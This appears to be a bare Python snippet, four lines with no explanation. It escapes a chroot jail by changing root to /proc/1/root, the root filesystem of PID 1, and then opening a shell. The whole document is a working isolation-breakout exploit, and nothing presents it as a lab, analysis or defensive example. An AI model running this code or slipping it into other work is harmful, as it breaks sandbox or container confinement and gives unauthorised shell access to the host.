import os
os.chroot("/proc/1/root")
os.chdir("/")
os.execl("/bin/sh", "sh")
